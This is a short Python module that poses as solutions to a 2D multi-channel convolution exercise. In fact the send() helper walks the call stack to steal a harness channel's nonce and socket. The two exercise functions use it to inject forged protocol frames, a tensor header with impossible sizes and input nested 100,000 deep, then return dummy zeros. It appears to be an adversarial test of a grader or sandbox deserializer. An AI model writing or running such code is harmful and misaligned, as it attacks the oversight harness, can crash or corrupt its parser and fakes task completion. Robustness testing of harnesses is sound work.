"""With the true nonce: a tensor whose sizes do not match its bytes; brackets a hundred thousand deep."""

import struct
import sys

import torch


def send(body):
    frame = sys._getframe()
    while frame is not None:
        for thing in frame.f_locals.values():
            if hasattr(thing, "_channel"):
                header = struct.pack("<4sB3xI16sI", b"CbC1", 19, 1, thing._channel._nonce, len(body))
                thing._channel._end.sendall(header + body)
                return
        frame = frame.f_back


def corr2d_multi_in_out(X, K):
    send(b"T" + bytes([0, 2]) + struct.pack("<2q", -1, 2**62) + struct.pack("<I", 0))
    return torch.zeros(1)


def corr2d_multi_in_out_vectorized(X, K):
    send(b"U\x01\x00\x00\x00" * 10**5)
    return torch.zeros(1)
